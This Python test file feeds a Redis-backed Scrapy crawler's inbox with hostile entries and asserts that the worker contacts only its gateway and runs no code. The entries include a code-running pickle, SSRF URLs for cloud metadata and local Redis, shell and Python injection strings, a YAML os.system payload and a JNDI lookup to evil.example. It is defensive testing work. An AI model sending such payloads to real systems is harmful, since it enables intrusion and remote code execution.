"""Whatever strangers push: nothing but the gateway is connected to, no code runs, and each entry's end is known."""

import ast
import json
import pickle
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from redis import Redis

from tests.gateways import TOKEN, environment, run
from tests.redis_server import redis_server
from tests.scripted import Asked, ranks, scripted

INBOX = "ranklist:start_urls"
GOOD = [str(7_300_000_000_000_000_000 + step) for step in range(20)]


class Bomb:
    """Makes a file where it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self._mark,)


def nameless(trap: str, mark: Path) -> list[bytes]:
    """Entries that name no room; one that is followed reaches the trap, one that is run makes the mark."""
    shell = f"touch {mark}"
    python = f"__import__('os').system('{shell}')"
    bomb = Bomb(mark)
    texts = [
        "file:///etc/passwd", f"file://{mark}", "data:application/json,{}", "data:text/html;base64,PGgxPg==",
        f"{trap}/", f"{trap}/douyin/liveroom/ranklist", f"{trap}/?room=1", f"ftp://{trap[7:]}/x",
        f"s3://{trap[7:]}/x",
        "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
        "http://[fd00:ec2::254]/latest/", "http://127.0.0.1:6379/", "http://localhost/", "http://0/", "http://[::1]/",
        "http://2130706433/", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:6379/info",
        "javascript:alert(1)",
        "//evil.example/", "http://", "http://[", "http://evil.example\\@127.0.0.1/",
        "https://user:pass@evil.example/",
        f"{trap}/?room_id=-1", f"{trap}/?room_id=abc", f"{trap}/?room_id=", f"{trap}/?room_id=1e9",
        f"{trap}/?room_id=1%0d%0aHost:%20evil", f"{trap}/?room_id=%00", f"{trap}/?room_id={'9' * 20}",
        "6994259511469247263\r\nHost: evil.example", "1\r\n\r\nGET / HTTP/1.1", "1 2", "1;2", "1\x002", "\x00",
        "\x1b[2J",
        "-1", "0", "-6994259511469247263", "9" * 20, "9" * 400, "1.5", "1e18", "0x10", "+1", "NaN", "Infinity",
        "null",
        "true", "٣٤٥", "１２３", "六九九四", "", " ", "\n", "\ufeff1", "\u202e1", "'", "1' OR '1'='1",
        "1; DROP TABLE rooms", "%s%n",
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd", shell, f"$({shell})", f"`{shell}`", python,
        f"!!python/object/apply:os.system ['{shell}']", f"return redis.call('FLUSHALL') --{shell}", f"eval {python}",
        "[]", "{}", "[1]", '"', '""', "{", '{"room_id"', '{"room_id": null}', '{"room_id": -1}', '{"room_id": 1.5}',
        '{"room_id": true}', '{"room_id": [1]}', '{"room_id": {"room_id": 1}}', '{"room_id": "1\\r\\nX: y"}',
        '{"room_id": "٣"}',
        '{"room_id": 1e400}', '{"url": "file:///etc/passwd"}', f'{{"url": "{trap}/", "callback": "os.system"}}',
        '{"room_id": 1, "every": -1}', '{"room_id": 1, "every": "NaN"}', '{"room_id": 1, "priority": 1e99}',
        '{"room_id": 1, "anchor_id": "../x"}', '{"__class__": "os.system", "args": ["id"]}', '{"a":' * 5000,
        "[" * 100_000,
        '{"room_id": "' + "1" * 100_000 + '"}', "x" * 10_000_000, "[" * 10_000_000,
    ]  # fmt: skip
    pickles = [pickle.dumps(bomb, protocol) for protocol in range(6)]
    request = {"url": f"{trap}/", "callback": "parse", "meta": {"x": bomb}, "_class": "scrapy.Request"}
    octets = [
        *pickles,
        pickle.dumps(request),
        b"\xff\xfe",
        b"\xed\xa0\x80",
        b"\x80\x04\x95",
        bytes(range(256)),
        b"\x1f\x8b",
    ]
    return [*(text.encode("utf-8", "surrogatepass") for text in texts), *octets]


def foreign(trap: str) -> dict[str, str]:
    """Addresses elsewhere that name a room → the room, which is polled at the gateway and nowhere else."""
    return {
        f"{trap}/douyin/liveroom/ranklist?room_id=11": "11",
        "http://169.254.169.254/latest/?room_id=12": "12",
        "https://evil.example/?token=theirs&room_id=13": "13",
        f"{trap}/?url=file:///etc/passwd&room_id=14": "14",
        f'{{"room_id": "15", "url": "{trap}/", "callback": "os.system"}}': "15",
    }


def as_list(redis: "Redis", entries: list[bytes]) -> None:
    redis.rpush(INBOX, *entries)


def as_set(redis: "Redis", entries: list[bytes]) -> None:
    redis.sadd(INBOX, *entries)


def as_sorted_set(redis: "Redis", entries: list[bytes]) -> None:
    redis.zadd(INBOX, {entry: number for number, entry in enumerate(entries)})


@pytest.mark.parametrize("push", [as_list, as_set, as_sorted_set])
def test_a_hostile_queue_reaches_nobody_runs_nothing_and_harms_no_room(
    tmp_path: Path, push: Callable[["Redis", list[bytes]], None]
) -> None:
    async def answer(_asked: Asked) -> Any:
        return ranks()

    mark, events = tmp_path / "mark", tmp_path / "events"
    with scripted(answer) as gateway, scripted(answer) as trap, redis_server(tmp_path / "redis") as server:
        bad, elsewhere = nameless(trap.url, mark), foreign(trap.url)
        named = [text.encode() for text in (*elsewhere, *GOOD)]
        step = len(bad) // len(named) + 1
        mixed = [
            entry for number, good in enumerate(named) for entry in (*bad[number * step : (number + 1) * step], good)
        ]
        with Redis(port=server.port) as redis:
            push(redis, mixed)
        ours = {"GATEWAY_URL": gateway.url, "GATEWAY_TOKEN": TOKEN, "REDIS_URL": server.url}
        env = environment(None, tmp_path / "data", ours)
        done = audited(events, env)

        dead = run("rooms", "dead", "--json", env=env)
        asked = sorted(one.room_id for one in gateway.asked)
    assert set(bad) <= set(mixed)
    assert len(set(bad)) >= 100
    assert asked == sorted([*GOOD, *elsewhere.values()])
    assert (trap.asked, mark.exists()) == ([], False)
    assert done.returncode == 1
    assert f"Failed: {len(set(bad))} entries of the inbox did not name a room" in done.stderr
    assert dead.returncode == 0, dead.stderr
    letters = [json.loads(line) for line in dead.stdout.splitlines()]
    assert len(letters) == len(set(bad))
    assert all(letter["reason"] for letter in letters)
    assert_connected_to(events, {gateway.port, server.port})


def audited(events: Path, env: dict[str, str]) -> "subprocess.CompletedProcess[str]":
    """A worker that ends when idle, its deeds written to the file."""
    command = [sys.executable, "-m", "tests.audited", str(events), "crawl", "ranklist"]
    command += ["-s", "ASYNCIO_EVENT_LOOP=asyncio.SelectorEventLoop", "-s", "MAX_IDLE_TIME_BEFORE_CLOSE=1"]
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=100, check=False)


def assert_connected_to(events: Path, ports: set[int]) -> None:
    """That the worker has connected to these ports of the loopback, to nothing else, and done nothing else watched."""
    told = [json.loads(line) for line in events.read_text().splitlines()]
    connected = {ast.literal_eval(arguments[1])[:2] for event, arguments in told if event == "socket.connect"}
    assert connected == {("127.0.0.1", port) for port in ports}
    resolved = {arguments[0] for event, arguments in told if event == "socket.getaddrinfo"}
    assert resolved <= {"127.0.0.1", "b'127.0.0.1'"}
    libraries = {arguments[0] for event, arguments in told if event == "ctypes.dlopen"}
    assert libraries <= {"None"}, "the C library that the process has already"
    assert {event for event, _ in told} - {"ctypes.dlopen"} <= {
        "socket.connect",
        "socket.getaddrinfo",
        "marshal.loads",
        "subprocess.Popen",
    }
    started = [arguments[1] for event, arguments in told if event == "subprocess.Popen"]
    assert started in ([], ["['uname', '-p']"]), "Scrapy's first line names the machine"
